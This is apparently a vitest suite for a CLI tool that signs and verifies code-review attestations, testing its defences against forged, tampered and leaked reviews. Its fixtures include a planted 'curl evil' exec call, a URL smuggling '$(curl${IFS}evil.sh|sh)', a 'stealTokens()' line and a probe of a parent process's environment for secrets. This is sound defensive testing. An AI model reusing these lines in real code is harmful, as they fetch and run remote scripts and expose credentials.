import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { startGitHubStandIn } from '../helpers/github-stand-in.js';
import { makeRepo, REAL_PLAN, type TestRepo } from '../helpers/repo.js';
import { expectCode, patchConfig } from '../helpers/workflow.js';

/**
 * The wall: reviews CI can prove. Real repositories, real ssh-keygen, the
 * built CLI; the reviewer is a script that counts its runs.
 */
const made: TestRepo[] = [];
const dirs: string[] = [];
afterAll(() => {
  made.forEach((r) => r.cleanup());
  dirs.forEach((d) => rmSync(d, { recursive: true, force: true }));
});

const REF = 'refs/notes/wf-attestations';

function tempDir(prefix: string): string {
  const d = mkdtempSync(join(tmpdir(), prefix));
  dirs.push(d);
  return d;
}

/** A reviewer outside the repository (as CI requires): approves unless the packet holds "sneaky", counts its runs. */
function reviewerScript(): { path: string; count: string; marker: string } {
  const dir = tempDir('wf-att-reviewer-');
  const path = join(dir, 'reviewer.mjs');
  const count = join(dir, 'count');
  // While this file exists the reviewer asks for revision.
  const marker = join(dir, 'revise');
  writeFileSync(
    path,
    `import { randomUUID } from 'node:crypto';
import { appendFileSync, existsSync, readFileSync } from 'node:fs';
const packet = readFileSync(0, 'utf8');
appendFileSync(${JSON.stringify(count)}, packet.length + '\\n');
const parentEnv = (() => { try { return readFileSync('/proc/' + process.ppid + '/environ', 'latin1'); } catch { return ''; } })();
if (process.env.REVIEWER_SEES) appendFileSync(process.env.REVIEWER_SEES, JSON.stringify({ cwd: process.cwd(), env: Object.keys(process.env).sort(), packet, parentHasKey: parentEnv.includes('OPENSSH PRIVATE KEY'), parentHasToken: parentEnv.includes('ghs_') }) + '\\n');
const verdict = /sneaky/.test(packet) || existsSync(${JSON.stringify(marker)}) ? 'NEEDS_REVISION' : 'APPROVED';
console.log(JSON.stringify({ session_id: randomUUID(), response: (verdict === 'APPROVED' ? 'fine' : 'sneaky() is not in the plan') + '\\nVERDICT: ' + verdict }));
`,
  );
  return { path, count, marker };
}

const runs = (count: string) => (existsSync(count) ? readFileSync(count, 'utf8').split('\n').filter(Boolean).length : 0);

interface Setup {
  repo: TestRepo;
  key: string;
  base: string;
  reviewer: { path: string; count: string; marker: string };
}

function keygen(repo: TestRepo, extra: string[] = []): string {
  const out = tempDir('wf-att-key-');
  rmSync(out, { recursive: true });
  expectCode(repo.wf(['attest', 'keygen', '--out', out, ...extra]), 0);
  return readFileSync(join(out, 'wf-attestation-key'), 'utf8');
}

/** A base commit whose config requires attestations from a `gem` reviewer, with an attestors file holding one CI key. */
function attestedRepo(options: { trailers?: 'required' | 'optional'; minApprovals?: number; reviewers?: string[] } = {}): Setup {
  const repo = makeRepo();
  made.push(repo);
  const reviewer = reviewerScript();
  expectCode(repo.wf(['init', '--yes', '--no-hooks']), 0);
  patchConfig(repo, (c) => {
    c.reviewers = Object.fromEntries(
      (options.reviewers ?? ['gem']).map((name) => [name, { command: [process.execPath, reviewer.path], continuationId: { jsonPath: 'session_id' }, verdict: { jsonPath: 'response', regex: '^VERDICT: (\\w+)$' }, env: ['REVIEWER_SEES'] }]),
    );
    c.review.minApprovals = options.minApprovals ?? 1;
    c.attestation = { required: true, trailers: options.trailers ?? 'required' };
  });
  const key = keygen(repo);
  repo.write('src/app.js', 'export const app = 1;\n');
  repo.gitOk(['add', '-A']);
  repo.gitOk(['commit', '-q', '--no-verify', '-m', 'base']);
  return { repo, key, base: repo.gitOk(['rev-parse', 'HEAD']), reviewer };
}

/** The forgery of the issue: a trailer that is consistent with the commit, and no review at all. */
function forgedCommit(repo: TestRepo, file = 'evil.js', text = 'evil()\n'): string {
  repo.write(file, text);
  repo.gitOk(['add', '-A']);
  const hash = repo.wf(['hash']).stdout.trim().split(/\s/)[0]!;
  repo.gitOk(['commit', '-q', '--no-verify', '-m', 'feature', '-m', `Review-Hash: ${hash}\nReview-Id: gem:3f2b8c1e-9a4d-4e7b-8c21-5d9e0f6a7b13`]);
  return repo.gitOk(['rev-parse', 'HEAD']);
}

const reviewCi = (s: Setup, args: string[] = [], env: NodeJS.ProcessEnv = {}) =>
  s.repo.wf(['review', 'ci', '--base', s.base, '--json', ...args], { env: { WF_ATTESTATION_KEY: s.key, ...env } });
const verify = (s: Setup) => s.repo.wf(['verify', '--base', s.base, '--json']);
const reasons = (r: { stdout: string }) => (JSON.parse(r.stdout) as { commits: { reasons: string[] }[] }).commits.flatMap((c) => c.reasons).join('\n');

/** Rewrites the one attestation of `fingerprint` on the ref with `change`, as someone with push access could. */
function tamper(repo: TestRepo, change: (envelope: Record<string, any>) => Record<string, any>, toFingerprint?: string): void {
  const listing = repo.gitOk(['ls-tree', '-r', '--name-only', REF]).split('\n');
  const path = listing[0]!;
  const envelope = JSON.parse(repo.gitOk(['show', `${REF}:${path}`]));
  const fp = path.split('/')[3]!;
  const target = toFingerprint ? path.replaceAll(fp, toFingerprint).replace(fp.slice(0, 2) + '/' + fp.slice(2, 4), toFingerprint.slice(0, 2) + '/' + toFingerprint.slice(2, 4)) : path;
  const index = join(repo.dir, '..', 'tamper-index');
  const env = { GIT_INDEX_FILE: index };
  repo.gitOk(['read-tree', REF], { env });
  if (target !== path) repo.gitOk(['rm', '-q', '--cached', path], { env });
  const blob = repo.git(['hash-object', '-w', '--stdin'], { input: JSON.stringify(change(envelope)) }).stdout.trim();
  repo.gitOk(['update-index', '--add', '--cacheinfo', `100644,${blob},${target}`], { env });
  const tree = repo.gitOk(['write-tree'], { env });
  const commit = repo.gitOk(['commit-tree', tree, '-p', REF, '-m', 'tampered']);
  repo.gitOk(['update-ref', REF, commit]);
}

describe('wf verify with attestation.required on the base', () => {
  it('refuses the forgery of the issue: a consistent trailer, a real-looking Review-Id, and no attestation', () => {
    const s = attestedRepo();
    forgedCommit(s.repo);
    const r = verify(s);
    expectCode(r, 1);
    expect(reasons(r)).toMatch(/attestations ref not fetched/);
    expect(reasons(r)).toContain(`git fetch origin +${REF}:${REF}`);
  });

  it('passes once wf review ci attested the commit; a rebase that keeps the change needs no new review', () => {
    const s = attestedRepo();
    forgedCommit(s.repo);
    const first = reviewCi(s);
    expectCode(first, 0);
    expect(JSON.parse(first.stdout)).toMatchObject({ ok: true, attestationsWritten: 1, summary: { attested: 1 } });
    expect(runs(s.reviewer.count)).toBe(1);
    expectCode(verify(s), 0);

    // A new commit on main; the feature is rebased onto it: a new commit id, the same change.
    s.repo.gitOk(['branch', 'feature']);
    s.repo.gitOk(['reset', '-q', '--hard', s.base]);
    s.repo.write('README.md', 'other work\n');
    s.repo.gitOk(['add', '-A']);
    s.repo.gitOk(['commit', '-q', '--no-verify', '-m', 'other']);
    const newBase = s.repo.gitOk(['rev-parse', 'HEAD']);
    s.repo.gitOk(['checkout', '-q', 'feature']);
    s.repo.gitOk(['rebase', '-q', newBase]);
    const rebased = { ...s, base: newBase };
    const again = reviewCi(rebased);
    expectCode(again, 0);
    expect(JSON.parse(again.stdout).commits[0].status).toBe('already-attested');
    expect(runs(s.reviewer.count)).toBe(1);
    expectCode(verify(rebased), 0);

    // Any change of content needs a new review.
    s.repo.write('evil.js', 'evil(); more()\n');
    s.repo.gitOk(['commit', '-q', '--no-verify', '-am', 'amended content', '--amend']);
    const changed = verify(rebased);
    expectCode(changed, 1);
    expect(reasons(changed)).toMatch(/0 attested approvals/);
  });

  it('an attestation moved to another fingerprint, an edited predicate, and a deleted ref never pass', () => {
    const s = attestedRepo();
    forgedCommit(s.repo);
    expectCode(reviewCi(s), 0);
    const saved = s.repo.gitOk(['rev-parse', REF]);

    // Edited predicate: the signature no longer matches.
    tamper(s.repo, (e) => {
      const statement = JSON.parse(Buffer.from(e.payload, 'base64').toString('utf8'));
      statement.predicate.reviewer = 'gem';
      statement.predicate.sessionId = 'edited-by-hand-0000000000000000';
      return { ...e, payload: Buffer.from(JSON.stringify(statement)).toString('base64') };
    });
    let r = verify(s);
    expectCode(r, 1);
    expect(reasons(r)).toMatch(/bad signature/);

    // A valid attestation for one change copied under another change's fingerprint.
    s.repo.gitOk(['update-ref', REF, saved]);
    s.repo.write('evil.js', 'evil(); other()\n');
    s.repo.gitOk(['commit', '-q', '--no-verify', '-am', 'other change', '--amend']);
    const otherFp = (JSON.parse(verify(s).stdout) as { commits: { expectedHash: string }[] }).commits[0]!.expectedHash;
    tamper(s.repo, (e) => e, otherFp);
    r = verify(s);
    expectCode(r, 1);
    expect(reasons(r)).toMatch(/attestation for another fingerprint/);

    // Deleting the ref can only make verification fail.
    s.repo.gitOk(['update-ref', '-d', REF]);
    r = verify(s);
    expectCode(r, 1);
    expect(reasons(r)).toMatch(/attestations ref not fetched/);
  });

  it('refuses a signer not on the base list, a key added to the attestors inside the pull request, and an expired key', () => {
    const s = attestedRepo();
    // A second key, listed only by the pull request itself.
    const rogue = keygen(s.repo);
    forgedCommit(s.repo);
    const signed = reviewCi(s, [], { WF_ATTESTATION_KEY: rogue });
    // wf itself refuses to sign with a key the base does not list...
    expectCode(signed, 3);
    expect(signed.stdout + signed.stderr).toMatch(/not listed in \.claude\/wf-attestors on the base/);

    // ...and attestations made with it anyway, against a base that is the pull request's own commit
    // (whose attestors file lists the rogue key), do not count against the real base.
    const head = s.repo.gitOk(['rev-parse', 'HEAD']);
    expect(s.repo.gitOk(['show', `${head}:.claude/wf-attestors`]).split('ssh-ed25519').length).toBe(3);
    s.repo.write('more.js', 'more()\n');
    s.repo.gitOk(['add', 'more.js']);
    s.repo.gitOk(['commit', '-q', '--no-verify', '-m', 'child']);
    expectCode(s.repo.wf(['review', 'ci', '--base', head, '--json'], { env: { WF_ATTESTATION_KEY: rogue } }), 0);
    const judged = verify(s);
    expectCode(judged, 1);
    expect(reasons(judged)).toMatch(/signer not allowed/);
  });

  it('a key past its valid-before on the base does not count', () => {
    const s = attestedRepo();
    forgedCommit(s.repo);
    expectCode(reviewCi(s), 0);
    // The same change on a base whose attestors file gives the key a window that ended before the attestation.
    const expire = (tree: string) => {
      const attestors = s.repo.gitOk(['show', `${tree}:.claude/wf-attestors`]).replace(/valid-after="[0-9]+Z"/, 'valid-after="20200101Z",valid-before="20210101Z"');
      const blob = s.repo.git(['hash-object', '-w', '--stdin'], { input: `${attestors}\n` }).stdout.trim();
      const env = { GIT_INDEX_FILE: join(s.repo.dir, '..', `expired-index-${tree.slice(0, 8)}`) };
      s.repo.gitOk(['read-tree', tree], { env });
      s.repo.gitOk(['update-index', '--cacheinfo', `100644,${blob},.claude/wf-attestors`], { env });
      return s.repo.gitOk(['write-tree'], { env });
    };
    const expiredBase = s.repo.gitOk(['commit-tree', expire(s.base), '-m', 'expired base']);
    const feature = s.repo.gitOk(['commit-tree', expire('HEAD'), '-p', expiredBase, '-m', 'feature on the expired base']);
    const r = s.repo.wf(['verify', '--base', expiredBase, '--head', feature, '--json']);
    expectCode(r, 1);
    expect(reasons(r)).toMatch(/key expired/);
  });

  it('trailers "optional": a commit with valid attestations and no trailers passes; without attestations it fails', () => {
    const s = attestedRepo({ trailers: 'optional' });
    s.repo.write('bot.js', 'bump()\n');
    s.repo.gitOk(['add', '-A']);
    s.repo.gitOk(['commit', '-q', '--no-verify', '-m', 'chore: bump a dependency']);
    expectCode(verify(s), 1);
    expectCode(reviewCi(s), 0);
    expectCode(verify(s), 0);
  });
});

describe('wf review ci', () => {
  it('a missing key is exit 3 naming the secret; the key never appears in output', () => {
    const s = attestedRepo();
    forgedCommit(s.repo);
    const r = s.repo.wf(['review', 'ci', '--base', s.base], { env: { WF_ATTESTATION_KEY: '' } });
    expectCode(r, 3);
    expect(r.stderr).toContain('WF_ATTESTATION_KEY');
    const ok = reviewCi(s);
    const secretLine = s.key.split('\n')[1]!;
    expect(ok.stdout + ok.stderr).not.toContain(secretLine);
  });

  it('--dry-run says what would be reviewed with packet sizes, runs nothing and signs nothing; --max-commits refuses past the cap', () => {
    const s = attestedRepo();
    forgedCommit(s.repo, 'a.js', 'a()\n');
    forgedCommit(s.repo, 'b.js', 'b()\n');
    const dry = s.repo.wf(['review', 'ci', '--base', s.base, '--dry-run', '--json'], { env: { WF_ATTESTATION_KEY: '' } });
    expectCode(dry, 0);
    const report = JSON.parse(dry.stdout);
    expect(report.commits.map((c: { packetBytes: number }) => c.packetBytes > 0)).toEqual([true, true]);
    expect(runs(s.reviewer.count)).toBe(0);
    expect(s.repo.git(['rev-parse', '-q', '--verify', REF]).code).not.toBe(0);
    const capped = reviewCi(s, ['--max-commits', '1']);
    expectCode(capped, 1);
    expect(capped.stdout + capped.stderr).toMatch(/more than --max-commits 1: nothing was run/);
    expect(runs(s.reviewer.count)).toBe(0);
  });

  it('runs the reviewer in an empty folder with a scrubbed environment, and reports a NEEDS_REVISION (signed, so it sticks) with its findings', () => {
    const s = attestedRepo();
    forgedCommit(s.repo, 'sneaky.js', 'export function sneaky() {}\n');
    const sees = join(tempDir('wf-att-sees-'), 'sees.jsonl');
    const r = reviewCi(s, [], { REVIEWER_SEES: sees, NODE_OPTIONS: '--no-warnings', LD_PRELOAD: '', GITHUB_TOKEN: 'ghs_notforthereviewer' });
    expectCode(r, 1);
    const report = JSON.parse(r.stdout);
    expect(report.commits[0]).toMatchObject({ status: 'needs-revision' });
    expect(report.commits[0].findings.join('\n')).toContain('sneaky() is not in the plan');
    expect(report.attestationsWritten).toBe(1);
    expect(report.commits[0].approvedBy).toEqual([]);
    const seen = JSON.parse(readFileSync(sees, 'utf8').trim());
    expect(seen.cwd).not.toBe(s.repo.dir);
    expect(seen.env).not.toContain('WF_ATTESTATION_KEY');
    expect(seen.env).not.toContain('NODE_OPTIONS');
    expect(seen.env).not.toContain('LD_PRELOAD');
    expect(seen.env).not.toContain('GITHUB_TOKEN');
    expect(seen.env).toContain('REVIEWER_SEES');
  });

  it('two review jobs pushing to one origin at once lose nothing', async () => {
    const s = attestedRepo({ reviewers: ['gem', 'codex'], minApprovals: 2 });
    forgedCommit(s.repo);
    const origin = join(tempDir('wf-att-origin-'), 'origin.git');
    spawnSync('git', ['init', '-q', '--bare', '-b', 'main', origin]);
    s.repo.gitOk(['remote', 'add', 'origin', origin]);
    s.repo.gitOk(['push', '-q', 'origin', 'HEAD:refs/heads/main']);
    const clones = [0, 1].map((i) => {
      const dir = join(tempDir('wf-att-clone-'), `c${i}`);
      spawnSync('git', ['clone', '-q', origin, dir], { env: s.repo.env });
      return dir;
    });
    const [a, b] = await Promise.all(
      clones.map((dir, i) =>
        s.repo.wfAsync(['review', 'ci', '--base', s.base, '--head', 'HEAD', '--remote', 'origin', '--json'], { cwd: dir, env: { WF_ATTESTATION_KEY: s.key, JOB: String(i) } }),
      ),
    );
    expectCode(a, 0);
    expectCode(b, 0);
    const files = spawnSync('git', ['--git-dir', origin, 'ls-tree', '-r', '--name-only', REF], { encoding: 'utf8' }).stdout.split('\n').filter(Boolean);
    // Each job signed both reviewers' approvals; every distinct file made it, none was overwritten.
    expect(new Set(files.map((f) => f.split('/').at(-1)!.split('.')[0])).size).toBe(2);
    expect(files.length).toBeGreaterThanOrEqual(2);
    s.repo.gitOk(['fetch', '-q', 'origin', `+${REF}:${REF}`]);
    expectCode(verify(s), 0);
  });
});

describe('what a hostile review learns, and what a rerun cannot wash out', () => {
  it('the key and the token handed over in files are read once and deleted: the reviewer finds neither in the files nor in wf\'s environment', () => {
    const s = attestedRepo();
    forgedCommit(s.repo);
    const dir = tempDir('wf-att-files-');
    const [keyFile, tokenFile] = [join(dir, 'key'), join(dir, 'token')];
    writeFileSync(keyFile, s.key, { mode: 0o600 });
    writeFileSync(tokenFile, 'ghs_abcdefghijklmnopqrstuvwxyz0123456789', { mode: 0o600 });
    const sees = join(tempDir('wf-att-sees-'), 'sees.jsonl');
    const r = s.repo.wf(['review', 'ci', '--base', s.base, '--json'], { env: { WF_ATTESTATION_KEY_FILE: keyFile, WF_GITHUB_TOKEN_FILE: tokenFile, REVIEWER_SEES: sees } });
    expectCode(r, 0);
    expect(existsSync(keyFile)).toBe(false);
    expect(existsSync(tokenFile)).toBe(false);
    const seen = JSON.parse(readFileSync(sees, 'utf8').trim());
    expect(seen).toMatchObject({ parentHasKey: false, parentHasToken: false });
    expect(r.stdout).not.toContain('ghs_abcdefghij');
    expectCode(verify(s), 0);
  });

  it('a NEEDS_REVISION is signed and sticks to the fingerprint: running the job again does not ask again, and verify refuses', () => {
    const s = attestedRepo();
    forgedCommit(s.repo);
    writeFileSync(s.reviewer.marker, '');
    expectCode(reviewCi(s), 1);
    rmSync(s.reviewer.marker);
    const again = reviewCi(s);
    expectCode(again, 1);
    expect(JSON.parse(again.stdout).commits[0]).toMatchObject({ status: 'needs-revision' });
    expect(runs(s.reviewer.count)).toBe(1);
    const r = verify(s);
    expectCode(r, 1);
    expect(reasons(r)).toMatch(/asked for revision of exactly this change/);
  });

  it('an approval made under another reviewer command of the same name does not count', () => {
    const s = attestedRepo();
    forgedCommit(s.repo);
    expectCode(reviewCi(s), 0);
    // The base changes the reviewer's command; the change under review is the same.
    const feature = s.repo.gitOk(['rev-parse', 'HEAD']);
    s.repo.gitOk(['checkout', '-q', s.base]);
    patchConfig(s.repo, (c) => {
      c.reviewers.gem.command = [process.execPath, s.reviewer.path, '--stricter'];
    });
    s.repo.gitOk(['commit', '-q', '--no-verify', '-am', 'stricter reviewer']);
    const newBase = s.repo.gitOk(['rev-parse', 'HEAD']);
    s.repo.gitOk(['checkout', '-q', feature]);
    s.repo.gitOk(['rebase', '-q', newBase]);
    const r = s.repo.wf(['verify', '--base', newBase, '--json']);
    expectCode(r, 1);
    expect(reasons(r)).toMatch(/ran another command than the base configures now/);
  });

  it('wf attest keygen refuses to write the key inside the repository, or into a folder that exists', () => {
    const repo = makeRepo();
    made.push(repo);
    expectCode(repo.wf(['init', '--yes', '--no-hooks']), 0);
    const inside = repo.wf(['attest', 'keygen', '--out', 'keys']);
    expectCode(inside, 2);
    expect(inside.stderr).toMatch(/inside the repository/);
    expect(existsSync(join(repo.dir, 'keys'))).toBe(false);
    const existing = tempDir('wf-att-existing-');
    expectCode(repo.wf(['attest', 'keygen', '--out', existing]), 2);
  });

  it('a merge of unrelated histories is gated, not a crash', () => {
    const s = attestedRepo();
    s.repo.gitOk(['checkout', '-q', '--orphan', 'other']);
    s.repo.gitOk(['rm', '-rq', '--cached', '.']);
    s.repo.write('other.txt', 'x\n');
    s.repo.gitOk(['add', 'other.txt']);
    s.repo.gitOk(['commit', '-q', '--no-verify', '-m', 'other root']);
    s.repo.gitOk(['checkout', '-q', '-f', 'main']);
    s.repo.gitOk(['merge', '-q', '--no-verify', '--allow-unrelated-histories', '--no-edit', 'other']);
    const r = verify(s);
    expectCode(r, 1);
    expect(JSON.parse(r.stdout).commits.map((c: { kind: string }) => c.kind)).toContain('merge');
  });
});

describe('wf review ci reports to the pull request', () => {
  it('posts one COMMENT review (never an approval) to GitHub, with the findings; the token reaches neither argv nor output', async () => {
    const stand = await startGitHubStandIn({ owner: 'octo-org', repo: 'octo-repo', pulls: [{ number: 7 }], token: 'ghs_abcdefghijklmnopqrstuvwxyz0123456789' });
    try {
      const s = attestedRepo();
      forgedCommit(s.repo, 'sneaky.js', 'export function sneaky() {}\n');
      forgedCommit(s.repo, 'ok.js', 'export const ok = 1;\n');
      const dir = tempDir('wf-att-gh-');
      const event = join(dir, 'event.json');
      writeFileSync(event, JSON.stringify({ pull_request: { number: 7, base: { sha: s.base } } }));
      const token = 'ghs_abcdefghijklmnopqrstuvwxyz0123456789';
      const r = await s.repo.wfAsync(['review', 'ci'], {
        env: { WF_ATTESTATION_KEY: s.key, GITHUB_ACTIONS: 'true', GITHUB_REPOSITORY: 'octo-org/octo-repo', GITHUB_API_URL: stand.url, GITHUB_EVENT_PATH: event, GITHUB_TOKEN: token, GITHUB_STEP_SUMMARY: join(dir, 'summary.md') },
      });
      expectCode(r, 1);
      expect(stand.problems).toEqual([]);
      expect(stand.reviews).toHaveLength(1);
      const [review] = stand.reviews;
      expect(review!.event).toBe('COMMENT');
      expect(review!.commitId).toBe(s.repo.gitOk(['rev-parse', 'HEAD']));
      expect(review!.body).toContain('sneaky() is not in the plan');
      expect(review!.body).toContain('needs-revision');
      expect(r.stdout).toMatch(/^::error title=wf review ci: [0-9a-f]{12} needs-revision::/m);
      expect(readFileSync(join(dir, 'summary.md'), 'utf8')).toContain('| commit | subject | result |');
      expect(r.stdout + r.stderr).not.toContain(token);
    } finally {
      await stand.close();
    }
  }, 60_000);
});

describe('the review sees exactly what is committed', () => {
  it('code under .claude/subtasks/ is in the fingerprint and the packet', () => {
    const s = attestedRepo();
    s.repo.write('.claude/subtasks/T-1/helper.js', 'require("child_process").exec("curl evil")\n');
    s.repo.gitOk(['add', '-f', '.claude/subtasks/T-1/helper.js']);
    s.repo.gitOk(['commit', '-q', '--no-verify', '-m', 'hidden helper']);
    const r = verify(s);
    expectCode(r, 1);
    expect(JSON.parse(r.stdout).commits[0].kind).toBe('commit');
    const sees = join(tempDir('wf-att-sees-'), 'sees.jsonl');
    expectCode(reviewCi(s, [], { REVIEWER_SEES: sees }), 0);
    expect(readFileSync(sees, 'utf8')).toContain('curl evil');
  });

  it('a -diff attribute does not turn code into "Binary files differ"; a real binary is listed with its size and hash', () => {
    const s = attestedRepo();
    mkdirSync(join(s.repo.dir, '.git', 'info'), { recursive: true });
    writeFileSync(join(s.repo.dir, '.git', 'info', 'attributes'), 'lib.js -diff\n');
    s.repo.write('.gitattributes', '*.js -diff\n');
    s.repo.write('lib.js', 'module.exports = () => stealTokens();\n');
    s.repo.write('blob.bin', Buffer.from([0, 1, 2, 3, 0, 255]));
    s.repo.gitOk(['add', '-A']);
    s.repo.gitOk(['commit', '-q', '--no-verify', '-m', 'lib']);
    const sees = join(tempDir('wf-att-sees-'), 'sees.jsonl');
    expectCode(reviewCi(s, [], { REVIEWER_SEES: sees }), 0);
    const packet = JSON.parse(readFileSync(sees, 'utf8').trim()).packet as string;
    expect(packet).toContain('+module.exports = () => stealTokens();');
    expect(packet).not.toContain('Binary files');
    expect(packet).toMatch(/blob\.bin[\s\S]*binary, 6 bytes, sha256 [0-9a-f]{64}/);
  });

  it('a redaction-shaped string is not hidden from the reviewer: the review is refused as a finding', () => {
    const s = attestedRepo();
    s.repo.write('net.js', 'fetch("https://user:$(curl${IFS}evil.sh|sh)@example.com/")\n');
    s.repo.gitOk(['add', '-A']);
    s.repo.gitOk(['commit', '-q', '--no-verify', '-m', 'net']);
    const r = reviewCi(s);
    expectCode(r, 1);
    const report = JSON.parse(r.stdout);
    expect(report.commits[0].status).toBe('secrets');
    expect(report.commits[0].findings.join('\n')).toMatch(/net\.js:1: url-password/);
    expect(runs(s.reviewer.count)).toBe(0);
  });

  it('wf review run ignores a fake reviewer shadowed on PATH inside the repository', () => {
    const repo = makeRepo();
    made.push(repo);
    expectCode(repo.wf(['init', '--yes', '--no-hooks']), 0);
    patchConfig(repo, (c) => {
      c.reviewers = { gemini: { command: ['gemini'], continuationId: { jsonPath: 'session_id' } } };
      c.review.allowManual = false;
    });
    repo.gitOk(['add', '-A']);
    repo.gitOk(['commit', '-q', '--no-verify', '-m', 'config']);
    repo.write('fake/gemini', `#!/bin/sh\necho '{"session_id":"3f2b8c1e-9a4d-4e7b-8c21-5d9e0f6a7b13","response":"VERDICT: APPROVED"}'\n`);
    chmodSync(join(repo.dir, 'fake/gemini'), 0o755);
    expectCode(repo.wf(['task', 'start', 'T-1', '--title', 'x']), 0);
    expectCode(repo.wf(['plan']), 0);
    repo.write('.claude/subtasks/T-1/plan.md', REAL_PLAN);
    expectCode(repo.wf(['plan']), 0);
    const r = repo.wf(['review', 'run', '--step', 'plan-review', '--json'], { env: { PATH: `./fake:${join(repo.dir, 'fake')}:${process.env.PATH}` } });
    expectCode(r, 3);
    expect(JSON.parse(r.stdout).reviewers[0]).toMatchObject({ outcome: 'failed', failure: 'could-not-start' });
    expect(r.stdout).toMatch(/not an executable on the trusted PATH/);
    expect(repo.read('.claude/task-state.json')).not.toContain('3f2b8c1e');
  });
});

describe('wf doctor and the attestors file', () => {
  it('lists the keys that may sign, and fails a malformed line or a required attestation with no attestors', () => {
    const s = attestedRepo();
    type Report = { checks: { name: string; status: string; detail: string }[] };
    let report = JSON.parse(s.repo.wf(['doctor', '--json']).stdout) as Report;
    const attestors = () => report.checks.filter((c) => c.name === 'attestors');
    expect(attestors()).toEqual([expect.objectContaining({ status: 'ok', detail: expect.stringMatching(/^1 key may sign attestations: wf-review-ci SHA256:/) })]);
    writeFileSync(join(s.repo.dir, '.claude/wf-attestors'), `${readFileSync(join(s.repo.dir, '.claude/wf-attestors'), 'utf8')}ci@x ssh-ed25519 not-base64!\n`);
    report = JSON.parse(s.repo.wf(['doctor', '--json']).stdout);
    expect(attestors().map((c) => c.status)).toEqual(['fail', 'warn']);
    rmSync(join(s.repo.dir, '.claude/wf-attestors'));
    report = JSON.parse(s.repo.wf(['doctor', '--json']).stdout);
    expect(attestors()).toEqual([expect.objectContaining({ status: 'fail', detail: expect.stringContaining('attestation.required is true') })]);
  });
});

describe('docs/attestation.md recipe', () => {
  it('an attestation verifies with ssh-keygen alone: PAE bytes, armored signature, allowed_signers from the base', () => {
    const s = attestedRepo();
    forgedCommit(s.repo);
    expectCode(reviewCi(s), 0);
    const path = s.repo.gitOk(['ls-tree', '-r', '--name-only', REF]).split('\n')[0]!;
    const envelope = JSON.parse(s.repo.gitOk(['show', `${REF}:${path}`]));
    const work = tempDir('wf-att-recipe-');
    const payload = Buffer.from(envelope.payload, 'base64');
    const type = Buffer.from(envelope.payloadType);
    writeFileSync(join(work, 'pae'), Buffer.concat([Buffer.from(`DSSEv1 ${type.length} `), type, Buffer.from(` ${payload.length} `), payload]));
    const b64 = envelope.signatures[0].sig as string;
    writeFileSync(join(work, 'sig'), `-----BEGIN SSH SIGNATURE-----\n${b64.match(/.{1,70}/g)!.join('\n')}\n-----END SSH SIGNATURE-----\n`);
    writeFileSync(join(work, 'allowed_signers'), s.repo.gitOk(['show', `${s.base}:.claude/wf-attestors`]));
    const principal = spawnSync('ssh-keygen', ['-Y', 'find-principals', '-f', join(work, 'allowed_signers'), '-s', join(work, 'sig')], { encoding: 'utf8' }).stdout.trim();
    expect(principal).toBe('wf-review-ci');
    const time = JSON.parse(payload.toString()).predicate.time.replace(/[-:T]/g, '').slice(0, 14);
    const r = spawnSync('ssh-keygen', ['-Y', 'verify', '-f', join(work, 'allowed_signers'), '-I', principal, '-n', 'wf-review', '-s', join(work, 'sig'), `-Overify-time=${time}`], { input: readFileSync(join(work, 'pae')), encoding: 'utf8', env: { ...process.env, TZ: 'UTC' } });
    expect(r.status, r.stderr + r.stdout).toBe(0);
  });
});
